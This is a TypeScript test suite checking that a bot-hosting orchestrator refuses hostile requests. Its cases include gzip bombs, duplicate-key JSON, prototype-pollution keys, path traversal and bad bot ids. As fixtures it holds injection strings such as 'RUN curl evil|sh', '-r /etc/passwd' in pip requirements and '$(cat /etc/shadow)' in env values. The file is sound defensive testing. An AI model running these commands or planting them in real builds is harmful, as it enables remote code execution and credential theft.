/**
 * Hostile requests through the real doors: the frame of a request, names, variables, requirements, files, limits. The numbers
 * are those of the list of hostile inputs that the platform is held to; what of it is no request (fetching, pulling, the CLI) is
 * tested where it happens.
 */
import { createHash } from 'node:crypto';
import { request as httpRequest } from 'node:http';
import { buffer } from 'node:stream/consumers';
import { gzipSync } from 'node:zlib';
import { Code } from '@connectrpc/connect';
import { credentials, Client as GrpcClient, Metadata, type ServiceError } from '@grpc/grpc-js';
import tar from 'tar-stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { custom, git, type HostileCase, image, openHostileDoors, simple, start } from '../kit/hostile-doors.ts';
import { startTestOrchestrator, type TestOrchestrator } from '../kit/orchestrator-for-tests.ts';
import { connectScriptedWorker, type ScriptedWorker } from '../kit/scripted-worker.ts';

const doors = openHostileDoors();

const files = (value: unknown) => ({ ...simple, code: null, files: value });
const withEnv = (env_vars: unknown) => ({ ...simple, env_vars });
const withLimits = (resource_limits: unknown) => ({ ...simple, resource_limits });
const withRequirements = (...requirements: unknown[]) => ({ ...simple, requirements });

describe('5: a body beyond all bounds is refused', () => {
  it('17 MiB of JSON', async () => {
    const { status, body } = await doors.orchestrator.post({ ...simple, code: 'x'.repeat(17 * 1024 * 1024) });
    expect([status, body.error.code]).toEqual([413, 'PAYLOAD_TOO_LARGE']);
  });

  const send = (path: string, headers: Record<string, string>, body: Uint8Array) =>
    new Promise<number | undefined>((resolve, reject) => {
      const request = httpRequest(`${doors.orchestrator.url}${path}`, {
        method: 'POST',
        headers: { authorization: 'Bearer test-client-token', 'content-type': 'application/json', ...headers },
      });
      request.on('response', (response) => {
        response.resume();
        resolve(response.statusCode);
      });
      request.on('error', reject);
      request.end(body);
    });
  // 60 KB that would be 64 MB.
  const bomb = gzipSync(Buffer.alloc(64 * 1024 * 1024, 0x20));

  it('a gzip bomb is not inflated: REST', async () => {
    expect(await send('/jobs', { 'content-encoding': 'gzip' }, bomb)).toBe(400);
  });

  it('a gzip bomb is not inflated: Connect', async () => {
    const path = '/botrunner.v1.BotService/ListBots';
    const status = await send(path, { 'content-encoding': 'gzip', 'connect-protocol-version': '1' }, bomb);
    expect(status).toBeGreaterThanOrEqual(400);
    // Unimplemented is 501 in Connect: the encoding is not spoken.
    expect([400, 404, 413, 415, 429, 501]).toContain(status);
  });

  // grpc-js, because Node's own HTTP/2 client gives up a session that holds more than 10 MB unsent.
  it('a gRPC message of 17 MiB', async () => {
    const client = new GrpcClient(doors.orchestrator.address, credentials.createInsecure());
    const metadata = new Metadata();
    metadata.set('authorization', 'Bearer test-client-token');
    const same = (bytes: Buffer) => bytes;
    const error = await new Promise<ServiceError | null>((resolve) => {
      const message = Buffer.alloc(17 * 1024 * 1024);
      client.makeUnaryRequest('/botrunner.v1.BotService/StartBot', same, same, message, metadata, resolve);
    });
    client.close();
    expect(error?.code).toBe(Code.ResourceExhausted);
  });
});

describe('7: JSON that is read in more than one way is refused', () => {
  const body = (data: string) => `{"blueprint":"bot_runner","data":${data}}`;
  const code = (text: string) => body(`{"action":"start","bot_id":"a","deployment_mode":"simple","code":${text}}`);
  doors.refuses([
    ['a byte order mark', `\ufeff${body('{"action":"list"}')}`, 'MALFORMED_REQUEST'],
    ['a NUL in text', code('"a\0b"'), 'MALFORMED_REQUEST'],
    ['a lone surrogate', code('"\\ud800"'), 'MALFORMED_REQUEST'],
    ['a lone surrogate in a key', body('{"\\udc00":1}'), 'MALFORMED_REQUEST'],
    ['NaN', body('{"action":"logs","bot_id":"a","lines":NaN}'), 'MALFORMED_REQUEST'],
    ['Infinity', body('{"action":"logs","bot_id":"a","lines":Infinity}'), 'MALFORMED_REQUEST'],
    ['1e400', body('{"action":"logs","bot_id":"a","lines":1e400}'), 'MALFORMED_REQUEST'],
    ['-0', body('{"action":"logs","bot_id":"a","lines":-0}'), 'MALFORMED_REQUEST'],
    ['2^53+1', body('{"action":"logs","bot_id":"a","lines":9007199254740993}'), 'MALFORMED_REQUEST'],
    ['a key twice', body('{"action":"list","action":"start"}'), 'MALFORMED_REQUEST'],
    ['a key twice, once escaped', body('{"action":"list","\\u0061ction":"start"}'), 'MALFORMED_REQUEST'],
    ['the blueprint twice', '{"blueprint":"bot_runner","data":{},"blueprint":"x"}', 'MALFORMED_REQUEST'],
    ['trailing garbage', `${body('{"action":"list"}')}]`, 'MALFORMED_REQUEST'],
    ['two bodies', body('{"action":"list"}').repeat(2), 'MALFORMED_REQUEST'],
    ['a hundred thousand lists', '['.repeat(100_000), 'MALFORMED_REQUEST'],
    ['a hundred thousand objects', '{"a":'.repeat(100_000), 'MALFORMED_REQUEST'],
    ['a hundred thousand levels that end', code('['.repeat(1e5) + ']'.repeat(1e5)), 'MALFORMED_REQUEST'],
    ['nothing', '', 'MALFORMED_REQUEST'],
    ['null', 'null', 'MALFORMED_REQUEST'],
  ]);

  it('bytes that are not UTF-8', async () => {
    const response = await fetch(`${doors.orchestrator.url}/jobs`, {
      method: 'POST',
      headers: { authorization: 'Bearer test-client-token', 'content-type': 'application/json' },
      body: new Uint8Array([0x7b, 0x22, 0xc3, 0x28, 0x22, 0x7d]),
    });
    expect([response.status, (await response.json()) as object]).toMatchObject([
      400,
      { error: { code: 'MALFORMED_REQUEST' } },
    ]);
  });
});

describe('8: names that every object has are data', () => {
  const body = (data: string) => `{"blueprint":"bot_runner","data":${data}}`;
  doors.refuses([
    ['a prototype for the request', body('{"__proto__":{"action":"list"}}'), 'MISSING_REQUIRED_FIELD'],
    [
      'a prototype for the body',
      '{"__proto__":{"blueprint":"bot_runner","data":{"action":"list"}}}',
      'MISSING_REQUIRED_FIELD',
    ],
    ['an action that is a method', { action: 'toString' }, 'INVALID_ACTION'],
    ['a mode that is a method', { ...start, deployment_mode: 'constructor' }, 'INVALID_DEPLOYMENT_MODE'],
    ['a blueprint that is a method', '{"blueprint":"constructor","data":{}}', 'INVALID_BLUEPRINT'],
    ['__proto__ as a variable', withEnv(JSON.parse('{"__proto__":"x"}')), 'INVALID_ENV_VARS'],
    ['__proto__ as a limit', withLimits(JSON.parse('{"__proto__":1}')), 'INVALID_RESOURCE_LIMITS'],
    ['a prototype for the variables', withEnv(JSON.parse('{"__proto__":{"A":"b"}}')), 'INVALID_ENV_VARS'],
    [
      'a prototype for the login',
      { ...image, registry_auth: JSON.parse('{"__proto__":{"username":"a"}}') },
      'INVALID_REGISTRY_AUTH',
    ],
  ]);

  it('and change no object of the process', async () => {
    await doors.orchestrator.post(
      body('{"action":"list","__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}'),
    );
    expect(({} as { polluted?: unknown }).polluted).toBeUndefined();
    const { status } = await doors.orchestrator.post({
      ...files(JSON.parse('{"bot.py":"","__proto__":"","constructor":"","toString":""}')),
      bot_id: 'methods',
    });
    expect(status).toBe(202);
    await doors.orchestrator.post({ action: 'delete', bot_id: 'methods' });
  });
});

describe('9: a value of the wrong type gets the code of its field', () => {
  doors.refuses([
    ['data that is text', '{"blueprint":"bot_runner","data":"x"}', 'MALFORMED_REQUEST'],
    ['data that is a list', '{"blueprint":"bot_runner","data":[]}', 'MALFORMED_REQUEST'],
    ['no data', '{"blueprint":"bot_runner"}', 'MALFORMED_REQUEST'],
    ['a blueprint that is a list', '{"blueprint":["bot_runner"],"data":{}}', 'INVALID_BLUEPRINT'],
    ['action []', { action: [] }, 'INVALID_ACTION'],
    ['action {}', { action: {} }, 'INVALID_ACTION'],
    ['action true', { action: true }, 'INVALID_ACTION'],
    ['bot_id 123', { ...simple, bot_id: 123 }, 'INVALID_BOT_ID'],
    ['bot_id ["a"]', { ...simple, bot_id: ['a'] }, 'INVALID_BOT_ID'],
    ['deployment_mode 1', { ...start, deployment_mode: 1 }, 'INVALID_DEPLOYMENT_MODE'],
    ['code 5', { ...simple, code: 5 }, 'INVALID_FILE_CONTENT'],
    ['code true', { ...simple, code: true }, 'INVALID_FILE_CONTENT'],
    ['files "x"', files('x'), 'INVALID_FILES_FORMAT'],
    ['files null', files(null), 'MISSING_CODE'],
    ['files [["a.py","x"]]', files([['a.py', 'x']]), 'INVALID_FILES_FORMAT'],
    ['requirements "x"', { ...simple, requirements: 'x' }, 'INVALID_REQUIREMENTS'],
    ['requirements {}', { ...simple, requirements: { a: 1 } }, 'INVALID_REQUIREMENTS'],
    ['requirements [null]', withRequirements(null), 'INVALID_REQUIREMENTS'],
    ['entrypoint 5', { ...simple, entrypoint: 5 }, 'INVALID_ENTRYPOINT'],
    ['runtime "ruby"', { ...simple, runtime: 'ruby' }, 'INVALID_ENTRYPOINT'],
    ['env_vars "A=b"', withEnv('A=b'), 'INVALID_ENV_VARS'],
    ['resource_limits "big"', withLimits('big'), 'INVALID_RESOURCE_LIMITS'],
    ['lines "1e9"', { action: 'logs', bot_id: 'resident', lines: '1e9' }, 'INVALID_LINES'],
    ['lines [5]', { action: 'logs', bot_id: 'resident', lines: [5] }, 'INVALID_LINES'],
    ['archive {}', { ...custom, archive: { a: 1 } }, 'INVALID_ARCHIVE'],
    ['archive_url 5', { ...custom, archive_url: 5 }, 'INVALID_ARCHIVE_URL'],
    ['git_repo true', { ...custom, git_repo: true }, 'INVALID_GIT_URL'],
    ['git_branch {}', { ...git, git_branch: { a: 1 } }, 'INVALID_GIT_REF'],
    ['git_subdir 5', { ...git, git_subdir: 5 }, 'INVALID_FILE_PATH'],
    ['docker_image ["x"]', { ...image, docker_image: ['x'] }, 'INVALID_IMAGE_NAME'],
  ]);
});

describe('10: only the known actions are known', () => {
  doors.refuses([
    ['none', { bot_id: 'resident' }, 'MISSING_REQUIRED_FIELD'],
    ['Start', { ...simple, action: 'Start' }, 'INVALID_ACTION'],
    ['start with a space', { ...simple, action: 'start ' }, 'INVALID_ACTION'],
    ['start in full width', { ...simple, action: 'ｓtart' }, 'INVALID_ACTION'],
    ['start with a NUL', { ...simple, action: 'start\u0000' }, 'INVALID_ACTION'],
    ['remove', { action: 'remove', bot_id: 'resident' }, 'INVALID_ACTION'],
    ['a megabyte', { action: 'x'.repeat(1_000_000), bot_id: 'resident' }, 'INVALID_ACTION'],
  ]);
});

describe('11: who asks, and what is run where, is not the body’s to say', () => {
  it('forged fields are passed over', async () => {
    const forged = {
      user_id: 'victim',
      tenant: 'victim',
      worker_id: 'w9',
      container_id: 'c9',
      labels: { a: 'b' },
      task_id: 't9',
    };
    const { status, body } = await doors.orchestrator.post({
      ...simple,
      bot_id: 'forged',
      ...forged,
      base_image: 'evil',
    });
    expect(status).toBe(202);
    const { data } = (
      await doors.orchestrator.get(
        `/jobs/${(await doors.orchestrator.post({ action: 'status', bot_id: 'forged' })).body.job_id}`,
      )
    ).body;
    expect(data.result).toMatchObject({ exists: true, bot_id: 'forged', status: 'pending' });
    const job = await doors.orchestrator.get(`/jobs/${body.job_id}`);
    expect(JSON.stringify([data, job.body])).not.toMatch(/victim|w9|c9|t9|evil/);
    expect((await doors.bots.getBot({ botId: 'forged' })).bot?.userId).toBe('dev');
    await doors.orchestrator.post({ action: 'delete', bot_id: 'forged' });
  });
});

describe('18: a bot id is 1 to 64 of [a-zA-Z0-9_-]', () => {
  const named = (bot_id: unknown): HostileCase => [
    JSON.stringify(bot_id)?.slice(0, 60) ?? 'none',
    { ...simple, bot_id },
    'INVALID_BOT_ID',
  ];
  doors.refuses([
    ['""', { ...simple, bot_id: '' }, 'MISSING_REQUIRED_FIELD'],
    ...[
      'a'.repeat(65),
      ' ',
      'a b',
      'тест бот!',
      '🤖',
      'a/b',
      '..',
      '.',
      '-rm x',
      'a\n',
      '\na',
      'a\u0000',
      'a\u202eb',
      'ａ',
      'a%2fb',
      "a'b",
    ].map(named),
  ]);
});

describe('19, 20, 21: names that look alike or like something else are names', () => {
  it('each is a bot of its own', async () => {
    const names = [
      'Bot',
      'bot',
      'latest',
      'list',
      '__proto__',
      'constructor',
      '-'.repeat(64),
      '0',
      '-rm',
      'c0ffee123456',
      'b_c',
      'b-c',
    ];
    const before = (await doors.list()).count;
    for (const bot_id of names) expect((await doors.orchestrator.post({ ...simple, bot_id })).status, bot_id).toBe(202);
    const after = await doors.list();
    expect(after.count).toBe(before + names.length);
    expect(after.bots.map(({ bot_id }: { bot_id: string }) => bot_id)).toEqual(expect.arrayContaining(names));
    for (const bot_id of names)
      expect((await doors.orchestrator.post({ action: 'delete', bot_id })).status, bot_id).toBe(202);
  });
});

describe('23 to 27: environment variables', () => {
  const named = (name: string): HostileCase => [
    `23: the name ${JSON.stringify(name).slice(0, 40)}`,
    withEnv({ [name]: 'x' }),
    'INVALID_ENV_VARS',
  ];
  const valued = (value: unknown): HostileCase => [
    `27: the value ${JSON.stringify(value)}`,
    withEnv({ A: value }),
    'INVALID_ENV_VARS',
  ];
  doors.refuses([
    ...['', '=x', 'A=B', 'A B', 'A\nB', '1A', 'A-B', 'A'.repeat(300), 'ИМЯ', 'A\u0000'].map(named),
    ['24: a value with a NUL', withEnv({ A: 'a\0b' }), 'INVALID_ENV_VARS'],
    ['25: a value of 128 KiB', withEnv({ A: 'x'.repeat(128 * 1024) }), 'INVALID_ENV_VARS'],
    [
      '25: 300 KiB together',
      withEnv(Object.fromEntries(Array.from({ length: 10 }, (_, n) => [`A${n}`, 'x'.repeat(30 * 1024)]))),
      'INVALID_ENV_VARS',
    ],
    [
      '25: 201 variables',
      withEnv(Object.fromEntries(Array.from({ length: 201 }, (_, n) => [`A${n}`, 'x']))),
      'INVALID_ENV_VARS',
    ],
    ['26: a reserved name', withEnv({ BOTRUNNER_X: 'y' }), 'INVALID_ENV_VARS'],
    ...[5, true, null, { a: 1 }, ['x']].map(valued),
  ]);
});

describe('30, 31, 32: requirements', () => {
  const item = (text: unknown): HostileCase => [
    JSON.stringify(text).slice(0, 60),
    withRequirements(text),
    'INVALID_REQUIREMENTS',
  ];
  doors.refuses([
    ...[
      'a\n--index-url http://evil',
      '--extra-index-url http://evil',
      '-r /etc/passwd',
      '-e .',
      '--find-links x',
      '-c x',
      'pkg @ file:///etc',
      'pkg @ git+ssh://git@host/x',
      'git+https://host/x.git',
      'https://user:pw@host/x.whl',
      './x',
      'a\0',
      'x'.repeat(1_000_000),
      5,
    ].map(item),
    ['10,000 of them', withRequirements(...Array.from({ length: 10_000 }, (_, n) => `p${n}`)), 'INVALID_REQUIREMENTS'],
  ]);
});

describe('34 to 38: files and the entrypoint', () => {
  const key = (name: string): HostileCase => [
    `34: the name ${JSON.stringify(name).slice(0, 40)}`,
    files({ [name]: 'x', 'bot.py': '' }),
    'INVALID_FILE_PATH',
  ];
  const run = (entrypoint: string): HostileCase => [
    `38: ${JSON.stringify(entrypoint)}`,
    { ...files({ 'bot.py': '' }), entrypoint },
    'INVALID_ENTRYPOINT',
  ];
  doors.refuses([
    ...[
      '../x',
      '/etc/cron.d/x',
      'a/../../b',
      'a\\..\\b',
      'C:\\x',
      '',
      '.',
      'a//b',
      'a/',
      'a\u0000',
      'x'.repeat(300),
      Array(50).fill('d').join('/'),
      'a ',
      'a.',
      'a /b',
      '-x',
      'a\nb',
      'a\u202eb',
    ].map(key),
    ['36: a file that is a folder too', files({ a: '', 'a/b': '', 'bot.py': '' }), 'INVALID_FILE_PATH'],
    [
      '36: one name in two Unicode forms',
      files({ '\u00e9.py': '', 'e\u0301.py': '', 'bot.py': '' }),
      'INVALID_FILE_PATH',
    ],
    [
      '37: 100,000 files',
      files(Object.fromEntries(Array.from({ length: 100_000 }, (_, n) => [`f${n}`, '']))),
      'INVALID_FILES_FORMAT',
    ],
    ['37: a file of 20 MB', files({ 'bot.py': 'x'.repeat(20_000_000) }), 'PAYLOAD_TOO_LARGE', 413],
    ['37: a file that is no text', files({ 'bot.py': 5 }), 'INVALID_FILE_CONTENT'],
    ['37: code and files', { ...simple, files: { 'bot.py': '' } }, 'CONFLICTING_FIELDS'],
    ['37: no file', files({}), 'EMPTY_FILES'],
    ['37: no code', { ...start, deployment_mode: 'simple' }, 'MISSING_CODE'],
    ...[
      'bot.py"]\nRUN curl evil|sh\nCMD ["x',
      '-c',
      '-m',
      '/bin/sh',
      '../x.py',
      'a b.py',
      '$(x)',
      'absent.py',
      'bot.py\0',
    ].map(run),
  ]);

  it('35, 36: a Dockerfile is a file, and names that differ in case are two', async () => {
    const names = {
      'bot.py': '',
      Dockerfile: 'FROM evil',
      '.dockerignore': '*',
      'requirements.txt': '',
      'A.py': '',
      'a.py': '',
    };
    expect((await doors.orchestrator.post({ ...files(names), bot_id: 'plain-files' })).status).toBe(202);
    await doors.orchestrator.post({ action: 'delete', bot_id: 'plain-files' });
  });
});

describe('78, 79: resource limits', () => {
  const limit = (limits: object): HostileCase => [
    JSON.stringify(limits),
    withLimits(limits),
    'INVALID_RESOURCE_LIMITS',
  ];
  doors.refuses([
    ...[0, -1, 1e18, 1e300, '256m', 3, 1.5, null, true, [256]].map((memory_mb) => limit({ memory_mb })),
    ...[0, -1, 99, 1e-9, '0.5', null].map((cpu_cores) => limit({ cpu_cores })),
    ...['pids', 'privileged', 'binds', 'devices', 'network_mode', 'cap_add', 'runtime', 'ipc', 'pid', 'userns'].map(
      (name) => limit({ [name]: 1 }),
    ),
  ]);
});

describe('97: log lines', () => {
  const lines = (value: unknown): HostileCase => [
    JSON.stringify(value),
    { action: 'logs', bot_id: 'resident', lines: value },
    'INVALID_LINES',
  ];
  doors.refuses([0, -1, 1e9, 10_001, 1.5, 'abc', '', '-5', true, {}].map(lines));
});

describe('what a worker is sent', () => {
  let worker: ScriptedWorker;
  let own: TestOrchestrator;
  beforeAll(async () => {
    own = await startTestOrchestrator();
    worker = await connectScriptedWorker(own.address);
    await worker.take('welcome');
  });
  afterAll(async () => {
    worker.close();
    await own[Symbol.asyncDispose]();
  });
  const sent = async (data: object) => {
    const { status, body } = await own.post(data);
    expect(status).toBe(202);
    const ensure = await worker.take('ensure');
    worker.succeed(ensure);
    return { ensure, jobId: body.job_id as string };
  };

  it('22: a start of a running bot with another spec is a new generation, never "already running"', async () => {
    const first = await sent({ ...simple, bot_id: 'twice', code: 'print(1)' });
    const second = await sent({ ...simple, bot_id: 'twice', code: 'print(2)' });
    expect([first.ensure.generation, second.ensure.generation]).toEqual([1n, 2n]);
    expect(second.ensure.spec?.source).not.toEqual(first.ensure.spec?.source);
  });

  it('28: values that look like commands are sent as they are', async () => {
    const env = {
      A: '$(cat /etc/shadow)',
      B: '${HOME}',
      C: '`id`',
      D: 'a\nb',
      E: '',
      LD_PRELOAD: '/x.so',
      HTTP_PROXY: 'x',
    };
    const { ensure } = await sent({ ...simple, bot_id: 'literal', env_vars: env });
    expect(ensure.spec?.env).toEqual(env);
  });

  it('29: secrets are in no answer', async () => {
    const secret = 'canary-9d1c7e42';
    const { jobId } = await sent({
      ...image,
      bot_id: 'literal',
      env_vars: { BOT_TOKEN: secret },
      registry_auth: { username: 'me', password: secret },
    });
    const ids = [jobId];
    for (const data of [{ action: 'list' }, { action: 'status', bot_id: 'literal' }]) {
      ids.push((await own.post(data)).body.job_id);
    }
    for (const id of ids) expect(JSON.stringify((await own.get(`/jobs/${id}`)).body)).not.toContain(secret);
    const bad = await own.post({ ...simple, code: secret, env_vars: { 'A B': secret, C: `${secret}\0` } });
    expect([bad.status, JSON.stringify(bad.body).includes(secret)]).toEqual([400, false]);
  });

  it('39: simple mode knows no base image', async () => {
    const { ensure } = await sent({ ...simple, bot_id: 'literal', base_image: 'evil:latest', dockerfile: 'FROM evil' });
    expect(JSON.stringify(ensure.spec?.source)).not.toContain('evil');
  });

  it('40: code is stored byte for byte, whatever it looks like', async () => {
    const code = '\ufeffFROM evil\r\nRUN x\0\n# syntax=evil/frontend\n';
    const { ensure } = await sent({ ...simple, bot_id: 'literal', code });
    const pack = tar.pack();
    pack.entry({ name: 'bot.py', mode: 0o644, mtime: new Date(0), uid: 0, gid: 0 }, code);
    pack.finalize();
    expect(ensure.spec?.source.value).toMatchObject({
      artifactSha256: createHash('sha256')
        .update(await buffer(pack))
        .digest('hex'),
    });
  });

  it('69: an image without a tag is asked for by the tag latest', async () => {
    const { ensure } = await sent({ ...image, bot_id: 'literal', docker_image: 'ghcr.io/me/bot' });
    expect(ensure.spec?.source.value).toMatchObject({ image: 'ghcr.io/me/bot:latest' });
  });

  it('private repositories: the login is sent apart from the URL', async () => {
    const { ensure } = await sent({ ...git, bot_id: 'literal', git_auth: { username: 'me', password: 'pw' } });
    expect(ensure.spec?.source.value).toMatchObject({
      from: { value: { url: git.git_repo, credentials: { username: 'me', password: 'pw' } } },
    });
  });
});
